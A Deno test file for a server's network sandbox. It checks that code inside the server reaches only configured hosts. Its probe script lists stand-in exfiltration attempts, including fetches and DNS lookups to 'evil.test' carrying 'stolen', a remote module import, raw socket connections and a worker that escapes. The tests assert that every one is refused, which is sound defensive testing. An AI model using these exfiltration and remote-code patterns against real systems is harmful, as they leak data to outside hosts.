// A server reaches the hosts that its configuration names, and the runtime refuses it every other.

import assert from "node:assert/strict";
import { executablePermissions } from "../../build/permissions.ts";
import { networkHosts } from "../../src/app/network_hosts.ts";
import { DEFAULT_BUSINESS } from "../../src/businesses/business.ts";
import { loadConfig } from "../../src/config/config.ts";
import { callFaults } from "../../src/lab/call/calls_summary.ts";
import { scriptedAgent } from "../../src/lab/openai/agents/scripted_agent.ts";
import { eventually } from "../support/eventually.ts";
import { SERVER_ENV, ServerRig } from "../support/server_rig.ts";
import { WorkersRig } from "../support/workers_rig.ts";
import { ToolEndpoint } from "../support/tool_endpoint.ts";
import { probe } from "./probe.ts";

const CONFIG = loadConfig({ env: { ...SERVER_ENV, HOST: "127.0.0.1" } });

/** Every way out that the runtime has, to hosts that nobody has named; and other doors than its own. */
const PROBE = `
const { default: net } = await import("node:net");
const { default: http } = await import("node:http");
const { default: https } = await import("node:https");
const { default: tls } = await import("node:tls");
const { default: http2 } = await import("node:http2");
const { default: dgram } = await import("node:dgram");
const { default: dns } = await import("node:dns/promises");
const fails = (emitter) => new Promise((resolve, reject) => {
  emitter.on("connect", resolve).on("response", resolve).on("error", reject).on("listening", resolve);
});
const attempts = {
  "fetch": () => fetch("https://evil.test/?stolen"),
  "fetch by address": () => fetch("http://192.0.2.1/"),
  "fetch of this machine": () => fetch("http://127.0.0.1:27017/"),
  "fetch of the model's host on another port": () => fetch("https://api.openai.com:8443/"),
  "fetch of a host that only begins in the same way": () => fetch("https://api.openai.com.evil.test/"),
  "fetch by another spelling of an address": () => fetch("http://0xc0000201/"),
  "WebSocket": () => new WebSocket("wss://evil.test/"),
  "EventSource": () => new Promise((_, reject) => {
    new EventSource("https://evil.test/").onerror = (event) => reject(event.error ?? new Error("Requires net access"));
  }),
  "Deno.connect": () => Deno.connect({ hostname: "evil.test", port: 443 }),
  "Deno.connectTls": () => Deno.connectTls({ hostname: "evil.test", port: 443 }),
  "Deno.resolveDns": () => Deno.resolveDns("stolen.evil.test", "TXT"),
  "dns.lookup": async () => {
    try { await dns.lookup("stolen.evil.test"); } catch (error) { throw error.code === "EPERM" ? new Error("NotCapable") : error; }
  },
  "net.connect": () => fails(net.connect(443, "192.0.2.1")),
  "tls.connect": () => fails(tls.connect(443, "192.0.2.1")),
  "http.get": () => fails(http.get("http://192.0.2.1/")),
  "https.get, its address slipped in": () =>
    fails(https.get("https://api.openai.com/", { lookup: (_h, o, done) => done(null, o.all ? [{ address: "192.0.2.1", family: 4 }] : "192.0.2.1", 4) })),
  "http2.connect": () => fails(http2.connect("http://192.0.2.1/")),
  "another door": () => Deno.listen({ hostname: "127.0.0.1", port: 8081 }),
  "another server": () => Deno.serve({ hostname: "0.0.0.0", port: 8080, onListen() {} }, () => new Response()),
  "import from elsewhere": () => import("https://evil" + ".test/mod.ts"),
  "a worker with more": () => new Promise((_, reject) => {
    const url = URL.createObjectURL(new Blob(["fetch('https://evil.test/').catch((error) => postMessage(error.name))"]));
    const worker = new Worker(url, { type: "module" });
    worker.onmessage = ({ data }) => { worker.terminate(); reject(new Error(data)); };
  }),
};
`;

Deno.test("Code in a server reaches no host and opens no door that the configuration does not name, whatever it calls", async () => {
  const hosts = networkHosts(CONFIG, [DEFAULT_BUSINESS]);
  assert.deepEqual(await probe(["--permission-set=server", `--allow-net=${hosts}`], PROBE), []);
});

Deno.test("The hosts of a configuration: those of its variables, the door, the businesses' own, and nothing twice", () => {
  const business = {
    ...DEFAULT_BUSINESS,
    tools: {
      ...DEFAULT_BUSINESS.tools,
      http: ["https://tools.example.com/a", "https://tools.example.com/b", "http://127.0.0.1:9000/c"].map((
        url,
      ) => ({
        name: "t",
        description: "",
        parameters: { type: "object" as const, properties: {} },
        url,
        headers: {},
        timeoutMs: 1_000,
      })),
      mcp: [{
        type: "mcp" as const,
        server_label: "m",
        server_url: "https://mcp.example.com",
        require_approval: "never" as const,
      }],
    },
    records: { ...DEFAULT_BUSINESS.records, webhook: { url: "https://hooks.example.com/x", headers: {} } },
    lookup: { url: "https://crm.example.com/x", headers: {}, timeoutMs: 1_000 },
  };
  const env = {
    ...SERVER_ENV,
    TWILIO_API_URL: "https://api.twilio.com,https://api.ashburn.us1.twilio.com",
    EMBEDDING_BASE_URL: "http://127.0.0.1:7000/v1",
    PRIVATE_HOSTS: "crm.internal,127.0.0.1:9100",
  };
  assert.deepEqual(networkHosts(loadConfig({ env }), [business]), [
    "0.0.0.0:8080",
    "127.0.0.1:8080", // itself, for the telephone in the browser
    "api.openai.com:443",
    "127.0.0.1:7000",
    "api.twilio.com",
    "api.ashburn.us1.twilio.com",
    "crm.internal",
    "127.0.0.1:9100",
    "tools.example.com",
    "127.0.0.1",
    "hooks.example.com",
    "crm.example.com",
  ]);
});

Deno.test("The executable that is compiled for certain hosts reaches these and its own machine, and no other", async () => {
  const flags = executablePermissions(networkHosts(CONFIG, [DEFAULT_BUSINESS]).join());
  const own = new Set(["fetch of this machine", "another door"]); // its workers need them
  const done = await probe(flags, PROBE);
  assert.deepEqual(done.filter((line) => !own.has(line.split(":")[0])), []);
});

Deno.test("The workers of --workers are started with the hosts of the configuration alone", async () => {
  await using rig = await WorkersRig.start(2);
  for (const [, pid] of rig.log.matchAll(/"worker_started","worker":\d,"pid":(\d+)/g)) {
    const { stdout } = await new Deno.Command("cat", { args: [`/proc/${pid}/cmdline`] }).output();
    const args = new TextDecoder().decode(stdout).split("\0").filter((arg) => arg.startsWith("--allow-net"));
    assert.deepEqual(args, [
      `--allow-net=127.0.0.1,${new URL(rig.emulator.url).host},api.openai.com:443,api.twilio.com`,
    ]);
  }
});

for (
  const [uri, hosts] of [
    ["mongodb://u:p%40@one.test,two.test:27018/x?replicaSet=r", ["one.test:27017", "two.test:27018"]],
    ["mongodb+srv://u:p@c0.abc.mongodb.net/x", ["*.abc.mongodb.net", "10.0.0.53:53", "[fd00::53]:53"]],
  ] as const
) {
  Deno.test(`The hosts of ${uri.replace(/\/\/.*@/, "//")} are ${hosts.join(" and ")}`, () => {
    const config = { host: "::", port: 0, mongodbUri: uri };
    const nameServers = ["10.0.0.53", "fd00::53"];
    assert.deepEqual(networkHosts(config, [], { isWorker: true, nameServers }), [
      "[::]",
      "[::1]",
      "127.0.0.1",
      ...hosts,
    ]);
  });
}

Deno.test("A server bound to its hosts takes calls, and reaches by name what its business names; a host that comes later is refused by name until the next start", async () => {
  await using endpoint = new ToolEndpoint(() => ({ status: "shipped" }));
  const { port } = new URL(endpoint.tool("any").url);
  const tool = (name: string, url: string) => ({ name, description: "Looks an order up.", url });
  const business = (...http: unknown[]) => ({
    name: "Acme",
    numbers: ["+15550100000"],
    instructions: "Help.",
    tools: { http },
  });
  const callOf = (name: string) => ({ call: { name, arguments: {}, callId: `call_${name}` } });
  const say = { say: { toneMs: 200, transcript: "Hello." } };
  const early = tool("early", `http://localhost:${port}/`);
  const late = tool("late", "https://late.example.com/");
  await using rig = await ServerRig.start({
    agent: scriptedAgent([say, callOf("early"), say, callOf("late"), say]),
    businesses: { "acme.json": business(early) },
    env: { PRIVATE_HOSTS: `localhost:${port}` },
  });
  let untilMs = Infinity;
  const talk = rig.talk(() => untilMs);
  await eventually("the tool was called", () => endpoint.requests.length === 1);
  untilMs = 0;
  assert.deepEqual(callFaults((await talk).report), []);

  rig.temp.write("businesses/acme.json", JSON.stringify(business(early, late)));
  await eventually("the new host is named", () => rig.logged("host_not_allowed").length === 1);
  const [{ business: id, host, meaning }] = rig.logged("host_not_allowed");
  assert.deepEqual([id, host], ["acme", "late.example.com"]);
  assert.match(String(meaning), /refused until the server is started again/);
  await rig.startAgain();
  await new Promise((resolve) => setTimeout(resolve, 500));
  assert.deepEqual(rig.logged("host_not_allowed"), []);
});
